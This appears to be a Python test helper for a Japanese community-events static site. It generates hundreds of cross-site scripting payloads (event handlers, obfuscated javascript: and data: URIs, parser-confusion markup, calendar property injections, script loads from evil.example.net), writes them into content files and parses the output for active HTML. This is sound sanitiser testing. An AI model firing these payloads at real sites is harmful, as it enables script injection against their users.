"""Attack strings, content files full of them, and a detector of active parts in HTML.

In the templates of strings `{c}` stands for `CODE`, `{h}` for a handler and `{t}` for a target.
"""

import json
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from io import BytesIO
from itertools import product
from pathlib import Path
from random import Random

from kairanban.reports.html.pictures import PublishedPicture
from PIL import Image
from test_output import ADDRESS

CODE = "alert(1)"
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
ELEMENTS = (
    "<img alt=x src=a.jpg {h}={c}>",
    "<img alt=x src='a.jpg'{h}='{c}'>",
    "<svg {h}={c}>",
    "<svg/{h}={c}>",
    "<body {h}={c}>",
    "<details open {h}={c}>x</details>",
    "<a href='#' {h}={c}>x</a>",
    "<video><source {h}={c}></video>",
    "<p style='x' {h}='{c}'>x</p>",
    "<input autofocus {h}={c}>",
    "<math><mtext><p><img alt=x src=a.jpg {h}={c}></p></mtext></math>",
    "<section class=session id=x {h}={c}>x</section>",
)
TARGETS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "&#106;avascript:{c}",
    "java&#x09;script:{c}",
    "java\tscript:{c}",
    "&#1;javascript:{c}",
    "javascript&colon;{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={c}>",
    "feed:javascript:{c}",
    "view-source:javascript:{c}",
    "blob:{c}",
    "filesystem:{c}",
    "//evil.example.net/x.js",
)
LINKS = (
    "[x]({t})",
    "[x](<{t}>)",
    "![x]({t})",
    "[x][r]\n\n[r]: {t}",
    "<{t}>",
    '<a href="{t}">x</a>',
    "<a href='{t}'>x</a>",
    '<img src="{t}" alt="x">',
    '<blockquote cite="{t}">x</blockquote>',
    '<form action="{t}"><button>x</button></form>',
    '<iframe src="{t}"></iframe>',
    '<object data="{t}"></object>',
    '<embed src="{t}">',
    '<base href="{t}">',
    '<link rel=stylesheet href="{t}">',
    '<meta http-equiv=refresh content="0;url={t}">',
    '<svg><a xlink:href="{t}"><text>x</text></a></svg>',
)
WHOLE = (
    "<script>{c}</script>",
    "<SCRIPT SRC=//evil.example.net/x.js></SCRIPT>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script\n>{c}</script\n>",
    "<script/x>{c}</script>",
    "<<script>{c}//<</script>",
    "<style>@import '//evil.example.net/x.css'</style>",
    '<p style="background:url(javascript:{c})">x</p>',
    "<template><script>{c}</script></template>",
    '<noscript><p title="</noscript><img alt=x src=a.jpg onerror={c}>"></noscript>',
    "<math><style><img alt=x src=a.jpg onerror={c}></style></math>",
    "<svg><script>{c}</script></svg>",
    "<svg><style><img alt=x src=a.jpg onerror={c}></style></svg>",
    '<!--<img src="--><img alt=x src=a.jpg onerror={c}//">',
    "<![CDATA[<script>{c}</script>]]>",
    "<?php echo 1 ?><script>{c}</script>",
    "`<script>{c}</script>`",
    "```\n</code></pre><script>{c}</script>\n```",
    "    </code><script>{c}</script>",
    '<div markdown="1">\n<script>{c}</script>\n</div>',
    "[^x]\n\n[^x]: <script>{c}</script>",
    '*[HTML]: "onmouseover={c}\nHTML',
    "| a |\n|---|\n| <script>{c}</script> |",
    "term\n: <script>{c}</script>",
    "## <script>{c}</script>（赤木さん）",
    "## 募集\n\n- **<script>{c}</script>**。x {: 申込先=javascript:{c} }",
    "## 募集\n\n- x {: #\"onclick={c} 申込先='<script>{c}</script>' }",
    "x {: onclick={c} style=x }",
    "# x {: onclick={c} }",
    "![x](a.jpg){: onerror={c} }",
    "{{<script>{c}</script>|<img alt=x src=a.jpg onerror={c}>}}",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "\\<script\\>{c}\\</script\\>",
    "&#2;call-0&#3;&#2;session-0&#3;\x02wzxhzdk:0\x03",
    '<ul class="calls"><li class="call" id="x" onclick="{c}">x</li></ul>',
    '<a id="page-main" href="#" target=_blank ping="//evil.example.net">x</a>',
)


# Line ends that would begin another property in a calendar, and strings that would end a value.
BREAKS = (
    "x\nATTACH:https://evil.example.net/x",
    "x\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE",
    "x\\nEND:VEVENT\\nBEGIN:VALARM",
    "x\u2028BEGIN:VALARM\u2029X-EVIL:1",
    "x;VALUE=URI:javascript:alert(1)",
    'x":";X-EVIL="1',
    "x\n\n<script>alert(1)</script>",
)
TAGS = (
    "javascript-alert(1)",
    "x' onmouseover=alert(1) '",
    "&lt;script&gt;alert(1)&lt;",
    "%3Cscript%3Ealert(1)",
    "{{ 77 }}{% raw %}",
    "x...",
    "x onclick=alert(1) style=x",
    "#page-main",
)


def attacks(*, links: bool = True) -> list[str]:
    """Return all attack strings; without `links` those whose point is not a link's target."""
    made = [e.replace("{h}", h).replace("{c}", CODE) for e, h in product(ELEMENTS, HANDLERS)]
    if links:
        made += [k.replace("{t}", t).replace("{c}", CODE) for k, t in product(LINKS, TARGETS)]
    made += [whole.replace("{{", "{").replace("}}", "}").replace("{c}", CODE) for whole in WHOLE]
    return made


class Links:
    """A resolver for which every target is its own address, and every picture exists."""

    plain = False

    def link(self, target: str) -> str:
        """Return the target itself."""
        return target

    def picture(self, target: str) -> PublishedPicture:
        """Return a picture of 8 × 8 pixels."""
        return PublishedPicture(path=target, width=8, height=8)

    def report_problem(self, target: str, code: str) -> None:
        """Ignore a problem of the file."""


class Active(HTMLParser):
    """A parser that collects the tags and attributes that could run, load or send something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Add a tag and its attributes to `found` where they are active."""
        given = {key.lower(): value or "" for key, value in attrs}
        data = given.get("type") == "application/ld+json"
        own = tag == "script" and re.fullmatch(
            r"[./]*theme/[a-z]+\.[0-9a-f]+\.js", given.get("src", "")
        )
        if tag == "script" and not own and not data:
            self.found.append(f"<{tag} {given}>")
        forbidden = "style iframe object embed base form input button textarea svg math template"
        if tag in forbidden.split() or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        for key, value in given.items():
            if key.startswith("on") or key in {
                "style",
                "srcdoc",
                "formaction",
                "ping",
                "xlink:href",
            }:
                self.found.append(f"{tag} {key}={value}")
            if key in {"href", "src", "cite", "action", "data"}:
                target = re.sub(r"[\t\n\r]|^[\x00-\x20]+", "", value).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", target)
                if scheme and scheme[1] not in {"http", "https", "mailto", "tel", "webcal"}:
                    self.found.append(f"{tag} {key}={value}")
                foreign = scheme or target.startswith("//")
                if key == "src" and foreign and not target.startswith(ADDRESS):
                    self.found.append(f"{tag} {key}={value}")


def active(html: str) -> list[str]:
    """Return the active tags and attributes in a page or a part of one."""
    parser = Active()
    parser.feed(html)
    parser.close()
    return parser.found


REPORT = """---
題: 報告 {one}
公開日: 2024-01-05
日時: 2023-12-{day:02}
会場: {{ 名称: {quoted}, 住所: {quoted}, 部屋: {quoted} }}
概要: {one}
参加者数: 10名 {one}
掲載同意: 全員
執筆: {one}
画像の説明: {one}
見出し画像: a.jpg
前書き: |
{block}
備考: |
{block}
やさしい日本語: |
{block}
タグ: x
---

{attack}

## 会（赤木さん）

{attack}

![{one}](a.jpg "{one}")
"""
EVENT = """---
題: 催し {one}
日時: 2099年1月{day}日
オンライン: Zoom
内容: {one}
参加費: {one}
主催: {quoted}
登壇者: {quoted}
対象: {one}
変更理由: {one}
状態: 中止
問合せ: {one}
申込み: {one}
プログラム: |
{block}
---

{attack}
"""
# Templates by folder and language, in which each value becomes another attack; `@` stands for one
# in quotation marks.
PACKED = {
    "organizations": """---
名称: @
よみ: @
別名: [@]
連絡先: @
電話: @
地域: @
タグ: [TAG]
---
BODY
""",
    "organizations.en": """---
name: @
aliases: [@]
area: @
---
BODY
""",
    "venues": """---
名称: @
住所: @
別名: [@]
交通: @
バリアフリー: @
電話: @
---
BODY
""",
    "series": """---
名称: @
概要: @
問合せ: @
参加費: @
会場: @
---
BODY
""",
    "pages": """---
題: @
概要: @
---
BODY
""",
    "events": """---
題: @
日時: 2099年2月DAY日 19:00-20:00
会場: { 名称: @, 住所: @, 部屋: @, geo: "38.2, 140.8" }
オンライン: @
内容: @
参加費: [{ 区分: @, 金額: @ }]
定員: @
主催: [@]
共催: [@, organizations-NUMBER]
協力: [@]
登壇者: [{ 氏名: @, 所属: @, テーマ: @ }]
申込み: { url: @, note: @ }
メーリングリスト: { url: @, note: @ }
寄付: @
参加のサポート: [@]
執筆: @
シリーズ: series-NUMBER
タグ: [TAG]
見出し画像: { file: a.jpg, alt: @, credit: @ }
備考: MARKED
---
BODY
""",
    "events.en": """---
title: @
summary: @
room: @
note: MARKED
---
BODY
""",
    "reports": """---
題: @
公開日: 2024-02-05
イベント: events-NUMBER
概要: @
参加者数: @
掲載同意: 全員
資料: [{ title: @, url: a.jpg }, { title: @, url: "https://example.org/a" }]
見出し画像: { file: a.jpg, alt: @, credit: @ }
メーリングリスト: { url: @, note: @ }
寄付: @
タグ: [TAG]
---

## LINE（赤木さん）

### 募集

- **LINE**。LINE {: 区分=物品 申込先=「LINE」 }
- LINE（2099年6月30日まで）

### 会場の声

- LINE

> LINE
""",
}


def one_line(attack: str) -> str:
    """Return an attack as it can stand in one line of a header."""
    return "x " + re.sub("[\\s\x02\x03]+", " ", attack)


def quoted(attack: str) -> str:
    """Return an attack in quotation marks, escaped as in JSON."""
    return json.dumps(attack, ensure_ascii=True)


def picture() -> bytes:
    """Return the bytes of a tiny JPEG."""
    data = BytesIO()
    Image.new("RGB", (8, 8)).save(data, "JPEG")
    return data.getvalue()


def written(content: Path, kind: str, pages: Sequence[Sequence[str]]) -> int:
    """Write a file of a kind for each of `pages`, and return how many.

    Each text of a file holds all attacks of its page, one after the other.
    """
    for number, each in enumerate(pages):
        one = " ".join(map(one_line, each))
        block = re.sub("[\x02\x03]", "", "\n\n".join(each))
        values = {
            "one": one,
            "quoted": quoted(one.replace("、", "").replace("/", "／")),
            "block": "\n".join("  " + line for line in block.split("\n")),
            "attack": block,
            "day": number % 28 + 1,
        }
        text = {"reports": REPORT, "events": EVENT}[kind].format(**values)
        (content / f"{kind}/attack-{number}.md").write_text(text, "utf-8")
    return len(pages)


def packed(content: Path, rounds: int, many: int = 1) -> int:
    """Write `rounds` files of each kind, and return how many files these are.

    Each value in them is `many` random attacks. The random numbers are the same in each run.
    """
    random = Random(4)
    values = [*attacks(), *BREAKS * 8]
    # Links, and the same id twice, would stop the build where Markdown is read.
    unfit = re.compile(r"\]\(|<!--|\[\^|\bid=|\{:")
    bodies = [attack for attack in attacks(links=False) if not unfit.search(attack)]

    def some(which: Sequence[str]) -> list[str]:
        return [random.choice(which) for _ in range(many)]

    for number in range(rounds):
        made = {
            "@": lambda: quoted(f"{number} {' '.join(some(values))}"),  # noqa: B023
            "MARKED": lambda: quoted("\n\n".join(some(bodies))),
            "BODY": lambda: re.sub("[\x02\x03]", "", "\n\n".join(some(bodies))),
            "LINE": lambda: " ".join(map(one_line, some(bodies))),
            "TAG": lambda: quoted(random.choice(TAGS)),
            "NUMBER": lambda: str(number),  # noqa: B023
            "DAY": lambda: str(number % 28 + 1),  # noqa: B023
        }
        for kind, template in PACKED.items():
            folder, dot, language = kind.partition(".")
            text = re.sub("|".join(made), lambda found: made[found[0]](), template)  # noqa: B023
            (content / folder / f"{folder}-{number}{dot}{language}.md").write_text(text, "utf-8")
    return rounds * len(PACKED)
